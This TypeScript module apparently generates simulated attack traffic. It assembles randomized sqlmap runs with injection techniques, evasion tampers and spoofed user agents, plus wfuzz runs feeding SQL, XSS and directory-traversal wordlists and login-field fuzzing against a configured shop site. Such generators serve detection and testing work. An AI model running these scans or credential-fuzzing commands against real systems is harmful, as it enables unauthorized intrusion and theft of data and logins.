import { FORGED_AGENTS } from '../user-agents.ts';
import { type Prompt, SITE, type Tool } from '../visit.ts';

const WFUZZ = '/usr/share/wfuzz/wordlist';

const POINTS = [
  ['-u', `${SITE}/product?id=1`],
  ['-u', `${SITE}/product?id=7`],
  ['-u', `${SITE}/shop?category=herbs`],
  ['-u', `${SITE}/search?q=tomato`],
  ['-u', `${SITE}/api/v1/products?category=tools`],
  ['-u', `${SITE}/login`, '--data', 'username=admin&password=x'],
  ['-u', `${SITE}/contact`, '--data', 'name=a&email=a%40mail.example&message=hello'],
];

const TECHNIQUES = ['B', 'E', 'U', 'T', 'S', 'BE', 'EU', 'BT', 'Q', 'EUQ'];
const TAMPERS = ['space2comment', 'between', 'randomcase', 'charencode', 'space2plus', 'equaltolike'];

export const sqlmap: Tool = (prompt) => [
  {
    run: [
      'sqlmap',
      ...prompt.pick(POINTS),
      '--batch',
      '--disable-coloring',
      '--output-dir',
      prompt.folder(),
      '--timeout',
      '5',
      '--retries',
      '0',
      '--time-sec',
      '1',
      '--level',
      prompt.chance(0.85) ? '1' : '2',
      '--technique',
      prompt.pick(TECHNIQUES),
      ...(prompt.chance(0.35) ? ['--random-agent'] : []),
      ...(prompt.chance(0.3) ? ['--tamper', prompt.pick(TAMPERS)] : []),
      ...(prompt.chance(0.4) ? ['--dbms', prompt.pick(['mysql', 'postgresql', 'sqlite', 'mssql'])] : []),
    ],
    seconds: 20,
  },
];

const INJECTIONS = [
  'Injections/SQL.txt',
  'Injections/XSS.txt',
  'Injections/Traversal.txt',
  'Injections/XML.txt',
  'Injections/All_attack.txt',
  'vulns/sql_inj.txt',
  'vulns/dirTraversal-nix.txt',
  'vulns/dirTraversal-win.txt',
];

const TARGETS = [
  `${SITE}/product?id=FUZZ`,
  `${SITE}/shop?category=FUZZ`,
  `${SITE}/search?q=FUZZ`,
  `${SITE}/journal?page=FUZZ`,
  `${SITE}/uploads/FUZZ`,
  `${SITE}/download?file=FUZZ`,
];

function payloads(prompt: Prompt): string {
  const lines = prompt.list(`${WFUZZ}/${prompt.pick(INJECTIONS)}`).filter((line) => line.trim() !== '');
  return prompt.file(prompt.some(lines, prompt.between(10, 100)));
}

export const wfuzz: Tool = (prompt) => [
  {
    run: [
      'wfuzz',
      '-w',
      payloads(prompt),
      '-t',
      String(prompt.between(2, 10)),
      '--hc',
      '404',
      ...(prompt.chance(0.25) ? ['-H', `User-Agent: ${prompt.pick(FORGED_AGENTS)}`] : []),
      ...(prompt.chance(0.25)
        ? ['-d', prompt.pick(['username=FUZZ&password=x', 'username=admin&password=FUZZ']), `${SITE}/login`]
        : [prompt.pick(TARGETS)]),
    ],
  },
];
